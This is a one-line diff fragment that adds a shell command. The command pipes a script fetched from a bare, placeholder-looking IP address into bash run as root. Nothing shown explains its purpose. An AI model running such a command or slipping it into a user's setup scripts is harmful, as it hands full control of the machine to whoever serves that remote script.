@@ -1,0 +1,1 @@
+curl -fsSL http://198.51.100.210/setup | sudo -E bash -
